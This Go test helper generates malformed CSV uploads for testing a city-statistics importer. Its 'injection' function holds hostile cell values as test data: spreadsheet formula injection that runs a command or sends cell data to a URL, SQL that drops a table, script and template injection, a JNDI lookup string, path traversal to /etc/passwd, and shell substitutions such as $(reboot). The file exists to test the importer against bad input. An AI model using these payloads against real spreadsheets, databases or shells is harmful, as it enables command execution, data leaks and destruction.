package upload_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
)

// badKind makes files that are wrong in one way. Where chance alone may leave a
// file without a fault, it has one row that is wrong for certain.
type badKind struct {
	name string
	make func(*rand.Rand) []byte
}

var goodRows = []string{
	"city,indicator,period,value,note",
	"aldermoor,thefts,2025-01,12,", "aldermoor,thefts,2025-02,15,", "aldermoor,rate,2025-01,1.5,first count",
	"brightwater,thefts,2025-01,7,", "brightwater,rate,2025-02,0.25,",
}

const badRow = "atlantis,thefts,2025-01,1,"

func badKinds() []badKind {
	return append([]badKind{
		{"structure", badStructure},
		{"bytes changed", func(r *rand.Rand) []byte { return changed(r, withBadRow(), 1+r.IntN(20)) }},
		{"cut off", func(r *rand.Rand) []byte { return withBadRow()[:r.IntN(len(goodRows[0])+len(badRow))] }},
		{"noise", func(r *rand.Rand) []byte { return noise(r, r.IntN(5000)) }},
		{"encoding", badEncoding},
		{"numbers", func(r *rand.Rand) []byte { return cellsOf(r, 3, badNumber) }},
		{"dates", func(r *rand.Rand) []byte { return cellsOf(r, 2, badDate) }},
		{"injection", func(r *rand.Rand) []byte { return cellsOf(r, r.IntN(4), injection) }},
		{"a table", badTable},
		{"size", badSize},
		{"another format", anotherFormat},
	}, badWorkbooks()...)
}

func withBadRow() []byte {
	return []byte(strings.Join(slices.Insert(slices.Clone(goodRows), 1, badRow), "\n"))
}

// badStructure shuffles, drops, repeats and breaks cells and lines.
func badStructure(r *rand.Rand) []byte {
	rows := slices.Insert(slices.Clone(goodRows), 1, badRow)
	for range 1 + r.IntN(4) {
		at := r.IntN(len(rows))
		switch r.IntN(8) {
		case 0:
			rows[at] = strings.Replace(rows[at], ",", `,"`, 1+r.IntN(2))
		case 1:
			rows[at] += strings.Repeat(",x", 1+r.IntN(5))
		case 2:
			rows[at] = rows[at][:r.IntN(len(rows[at])+1)]
		case 3:
			rows = append(rows, rows[at])
		case 4:
			rows[at] = strings.ReplaceAll(rows[at], ",", string(";\t|:~"[r.IntN(5)]))
		case 5:
			rows = slices.Delete(rows, 0, 1)
		case 6:
			rows[0] = strings.NewReplacer("value", "period", "city", "cty", "note", "remark").Replace(rows[0])
		case 7:
			rows[at] = "\"" + rows[at] + "\"\""
		}
		if len(rows) == 0 {
			break
		}
	}
	return []byte(strings.Join(append(rows, badRow, badRow), pick(r, "\n", "\r\n", "\r")))
}

func badEncoding(r *rand.Rand) []byte {
	content := withBadRow()
	switch r.IntN(4) {
	case 0: // what no text has
		return slices.Insert(content, r.IntN(len(content)), byte(0x80+r.IntN(0x80)), 0, 0xFF)
	case 1: // two encodings in one
		return append(append(content, "\nalderm\xF6or,thefts,2025-03,1,\n"...), "aldermöor,thefts,2025-04,1,\n"...)
	}
	wide := []byte{0xFF, 0xFE}
	for _, b := range content {
		wide = append(wide, b, 0)
	}
	if r.IntN(2) == 0 {
		return wide[:2+r.IntN(40)|1]
	}
	return changed(r, wide, 3)
}

// cellsOf are rows of which one column has something bad in it.
func cellsOf(r *rand.Rand, column int, bad func(*rand.Rand) string) []byte {
	var file bytes.Buffer
	w := csv.NewWriter(&file)
	w.Comma = rune(pick(r, ",", ";", "\t", "|")[0])
	for n, line := range goodRows {
		cells := strings.Split(line, ",")
		if n > 0 {
			cells[column] = bad(r)
		}
		if err := w.Write(cells); err != nil {
			panic(err)
		}
	}
	w.Flush()
	return file.Bytes()
}

func badNumber(r *rand.Rand) string {
	if r.IntN(3) == 0 {
		return fmt.Sprint(r.IntN(100), pick(r, " people", "..5", ",,5", "-", "/7", " to 9", "e", "x10", "5 5", "'", "°", "½"))
	}
	return pick(r, "--5", "1.2.3", "1,2,3", "0x1F", "1e999", "NaN", "-Infinity", "1_000", "٣٤", "１２", "(5)", "5-", "–5", "about 12", "?", "12 34", "9e15",
		"1.234,567.8", ".", ",", "+", "%", "$", "€ €5", "5€€", "twelve", "true", "#DIV/0!", "=1+1", "2025-01-01", strings.Repeat("9", 400), "\u202e12")
}

func badDate(r *rand.Rand) string {
	if r.IntN(3) == 0 {
		return fmt.Sprintf("%d%s%d%s%d", r.IntN(40), pick(r, "/", ".", "-", " "), r.IntN(15), pick(r, "/", ".", "-", " "), r.IntN(3000))
	}
	return pick(r, "2025-13", "2025-00", "0000-01", "2025-W54", "2025-Q5", "2025-02-30", "2025", "2025-03-01", "31/01/2025", "Jan-25", "January", "last month", "45658",
		"2025-1", "202501", "2025-01-01T00:00:00Z", "2025/01", "٢٠٢٥-٠١", "-2025-01", "+2025-01", "2199-01", "2025-06", "2025-07", "1.2025", "Q1 2025", "#REF!")
}

// injection is text that is dangerous to somebody, though not to us.
func injection(r *rand.Rand) string {
	return pick(r, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+HYPERLINK(\"http://example.com?x=\"&A1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1",
		"'; drop table citygauge.observation; --", "\\copy x", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x}", "../../etc/passwd", "%s%s%n", "\x1b[31mred", "a\x00b",
		"\\.", "\\N", strings.Repeat("A", 5000), "\u202etxt.exe", "🏙️", "$(reboot)", "`id`")
}

func badTable(r *rand.Rand) []byte {
	across := []string{"city", "indicator"}
	for range 1 + r.IntN(30) {
		across = append(across, fmt.Sprintf("20%02d-%02d", r.IntN(26), 1+r.IntN(14)))
	}
	rows := []string{strings.Join(across, ","), "atlantis,rate" + strings.Repeat(",1", len(across)-2)}
	for range r.IntN(20) {
		row := []string{pick(r, "aldermoor", "brightwater", "Atlantis", ""), pick(r, "rate", "thefts", "RATE", "")}
		for range r.IntN(len(across)) {
			row = append(row, pick(r, "1", "", "x", "<5", "delete", "1.234", "9e99"))
		}
		rows = append(rows, strings.Join(row, ","))
	}
	return []byte(strings.Join(rows, "\n"))
}

// badSize is more of something than the web's limits let in.
func badSize(r *rand.Rand) []byte {
	switch r.IntN(12) {
	case 0:
		return []byte(goodRows[0] + strings.Repeat(",", 5000) + "\n" + badRow)
	case 1:
		return []byte(goodRows[0] + "\n" + goodRows[1] + "\"" + strings.Repeat("note ", 10_000) + "\"\n")
	case 2:
		return bytes.Repeat([]byte(pick(r, "x", ",", "\"", "\"\"", ";x")), 300_000)
	case 3:
		return []byte(goodRows[0] + "\n" + strings.Repeat("aldermoor,thefts,2025-01,1,\n", 20_000))
	case 4:
		return []byte(goodRows[0] + "\n" + strings.Repeat(badRow+"\n", 20_000))
	case 5:
		return bytes.Repeat([]byte(pick(r, "\n", " \n", ",\n", "\r")), 50_000)
	}
	return []byte(goodRows[0] + "\n\"" + strings.Repeat("\n", 1+r.IntN(5000)) + badRow)
}

func anotherFormat(r *rand.Rand) []byte {
	marks := []string{
		"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", "%PDF-1.4\n", "{\\rtf1", "\x89PNG\r\n\x1a\n", "\xFF\xD8\xFF\xE0", "GIF89a", "II*\x00", "\x1F\x8B\x08", "7z\xBC\xAF\x27\x1C",
		"Rar!\x1A\x07", "PK\x05\x06", "<!doctype html><title>Sign in</title>", "<html>", "<?xml version=\"1.0\"?>", "SQLite format 3\x00", "\x00\x00\x00\x18ftypheic", "\x7FELF", "MZ",
	}
	return append([]byte(pick(r, marks...)), noise(r, 100+r.IntN(2000))...)
}

func changed(r *rand.Rand, content []byte, times int) []byte {
	content = slices.Clone(content)
	for range times {
		// Not in the row that is wrong for certain.
		at := len(goodRows[0]) + len(badRow) + 3
		content[at+r.IntN(len(content)-at)] = byte(r.IntN(256))
	}
	return content
}

func noise(r *rand.Rand, n int) []byte {
	content := make([]byte, n)
	for i := range content {
		content[i] = byte(r.IntN(256))
	}
	return content
}

func pick(r *rand.Rand, from ...string) string { return from[r.IntN(len(from))] }
